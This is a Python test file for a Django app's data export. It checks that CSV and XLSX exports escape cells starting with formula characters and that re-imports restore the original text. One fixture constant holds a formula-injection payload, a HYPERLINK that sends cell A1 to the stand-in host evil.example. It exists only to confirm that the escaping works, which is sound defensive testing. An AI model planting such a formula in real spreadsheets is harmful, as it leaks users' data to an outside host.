"""Exports never hand Excel a formula: text beginning with = + - @, tab or CR stays text."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from meisterhub.companies.models import Company
from meisterhub.companies.tests.factories import CompanyFactory
from meisterhub.core.cells import FORMULA_STARTS, safe_cell, unescape_cell
from meisterhub.reports.exporting import export_data
from meisterhub.reports.importing import run_import

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_dangerous_start_is_neutralised_and_restored(start):
    value = f"{start}1+1"
    assert safe_cell(value) == f"'{value}"
    assert unescape_cell(safe_cell(value)) == value


def test_plain_values_pass_unchanged():
    for value in ("가나정밀", "홍길동", 42, -5, 3.5, None, "'인용", "a=b"):
        assert safe_cell(value) == value
        assert unescape_cell(value) == value


def test_the_xlsx_export_has_no_formula_cell(db, staff_user):
    CompanyFactory(name="가나정밀", representative=ATTACK, address="@SUM(1,2)")
    _, _, content = export_data(actor=staff_user, kind="companies", file_format="xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert f"'{ATTACK}" in values and "'@SUM(1,2)" in values


def test_the_csv_export_escapes_and_reimports_the_original_text(db, staff_user):
    CompanyFactory(name="+가나정밀", representative=ATTACK)
    name, _, content = export_data(actor=staff_user, kind="companies", file_format="csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert not [v for row in rows[1:] for v in row if v.startswith(FORMULA_STARTS)]
    assert f"'{ATTACK}" in rows[1]
    Company.objects.all().delete()
    outcome = run_import(actor=staff_user, kind="companies", upload=SimpleUploadedFile(name, content))
    assert outcome.errors == []
    company = Company.objects.get()
    assert (company.name, company.representative) == ("+가나정밀", ATTACK)


def test_the_export_page_says_so(client, staff_user):
    client.force_login(staff_user)
    page = client.get("/reports/transfer/").content.decode()
    assert "수식으로 실행되지 않도록" in page
